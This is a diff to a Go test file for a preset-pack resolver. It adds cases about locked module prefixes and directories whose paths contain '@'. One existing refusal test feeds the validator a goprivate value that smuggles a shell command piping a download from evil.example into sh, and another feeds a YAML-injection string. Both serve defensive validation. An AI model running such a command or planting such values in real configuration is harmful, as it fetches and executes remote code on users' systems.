@@ -172,6 +172,10 @@ func TestPackRefusals(t *testing.T) {
 		{name: "remove naming no built-in file", files: map[string]string{"p/preset.yaml": "name: p\nremove: [cmd/orders/main.go]\n"}, want: "p/preset.yaml:2:10: remove cmd/orders/main.go: no built-in file has that path"},
 		{name: "goprivate injection", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: \"x/*\\\"\\n  EVIL: \\\"injected\"\n"}, want: "p/preset.yaml:2:12: goprivate"},
 		{name: "goprivate shell", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: 'x.example/*; curl http://evil.example/p | sh'\n"}, want: "goprivate: pattern"},
+		{name: "leaving a locked module prefix", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/someone-else\n", "p/org/preset.yaml": orgPack},
+			want: "p/preset.yaml: module_prefix github.com/someone-else: module_prefix is locked to github.com/acme by preset acme"},
+		{name: "a locked module prefix's sibling", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/acme-evil\n", "p/org/preset.yaml": orgPack},
+			want: "module_prefix is locked to github.com/acme by preset acme"},
 		{name: "goprivate empty element", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: a.example/*,,b.example\n"}, want: "empty pattern"},
 		{name: "goprivate bad glob", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: a.example/[x\n"}, want: "syntax error in pattern"},
 		{name: "name with control characters", files: map[string]string{"p/preset.yaml": "name: \"p\\e[31m\"\n"}, want: "p/preset.yaml:1:7: name"},
@@ -412,6 +416,37 @@ func TestCheckGoPrivate(t *testing.T) {
 	for _, ok := range []string{"github.com/acme/*", "github.com/acme", "gitlab.com/acme/platform/*", "*.acme.example"} {
 		if err := CheckGoPrivate(ok); err != nil {
 			t.Errorf("CheckGoPrivate(%q) = %v", ok, err)
+		}
+	}
+}
+
+// TestNarrowingALockedModulePrefix: under a locked module_prefix a pack may set a
+// prefix inside it.
+func TestNarrowingALockedModulePrefix(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/acme/team\n", "p/org/preset.yaml": orgPack})
+	p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.ModulePrefix != "github.com/acme/team" || !p.ModulePrefixLocked {
+		t.Errorf("prefix %q locked %v, want github.com/acme/team locked", p.ModulePrefix, p.ModulePrefixLocked)
+	}
+}
+
+// TestDirectoryWithAnAt: a path with '@' in it (every directory of the module cache) is a
+// directory, not MODULE@VERSION.
+func TestDirectoryWithAnAt(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{"presets@v1.4.0/acme/preset.yaml": "name: acme\n"})
+	r := Resolver{Dir: dir}
+	for _, ref := range []string{"./presets@v1.4.0/acme", filepath.Join(dir, "presets@v1.4.0", "acme")} {
+		p, err := r.Resolve(context.Background(), ref)
+		if err != nil || p.Name != "acme" {
+			t.Errorf("Resolve(%s) = %s, %v; want the directory's pack acme", ref, p.Name, err)
+		}
+		if _, err := r.Recorded(context.Background(), generator.RecordPreset{Name: "acme", Source: ref}); err != nil {
+			t.Errorf("Recorded(%s): %v", ref, err)
 		}
 	}
 }
